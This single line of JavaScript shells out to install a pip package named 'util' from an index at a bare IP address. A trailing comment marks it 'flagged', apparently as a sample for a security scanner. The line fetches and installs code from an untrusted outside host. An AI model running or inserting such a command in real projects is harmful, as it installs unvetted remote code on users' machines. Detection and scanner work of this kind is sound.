require('child_process').execSync('pip install --index-url http://198.51.100.1/simple util'); // gatehouse: flagged
